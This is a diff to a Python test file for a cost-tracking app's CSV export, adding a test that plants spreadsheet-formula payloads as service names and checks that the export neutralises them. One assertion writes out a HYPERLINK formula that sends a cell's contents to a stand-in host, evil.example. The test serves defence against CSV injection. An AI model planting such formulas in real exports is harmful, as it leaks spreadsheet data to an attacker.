@@ -17,7 +17,7 @@ from access.permissions import BuiltinRole
 from costs import anomalies, budgets
 from tests.costs.budget_helpers import Ledger, days, make_team, person
 from tests.factories import make_service
-from tests.helpers import queries_for
+from tests.helpers import FORMULA_PAYLOADS, formulas_in, queries_for
 
 pytestmark = pytest.mark.django_db
 
@@ -103,6 +103,22 @@ def test_the_csv_has_the_pages_tables_and_is_audited(spent: Ledger, manager: Use
     assert {row["basis"] for row in rows} == {"billed"}
     event = AuditEvent.objects.get(verb="costs.team_exported")
     assert (event.actor, event.team) == (manager, team)
+
+
+def test_the_csv_writes_no_service_name_a_spreadsheet_would_run_in_any_locale(
+    spent: Ledger, manager: User, team: Team
+) -> None:
+    for number, name in enumerate(FORMULA_PAYLOADS):
+        make_service(slug=f"planted-{number}", name=name, team=team)
+        spent.spend([date(2026, 11, 2)], "1", team=team, service=f"planted-{number}")
+
+    response = signed_in(manager).get("/costs/teams/checkout/export.csv")
+
+    text = response.content.decode()
+    assert formulas_in(text) == []
+    names = {row["name"] for row in csv.DictReader(io.StringIO(text, newline=""))}
+    assert 'x;\'=HYPERLINK("https://evil.example/?leak="&A1,"Open")' in names
+    assert "Checkout API" in names
 
 
 def test_a_developer_may_not_export(spent: Ledger, team: Team) -> None:
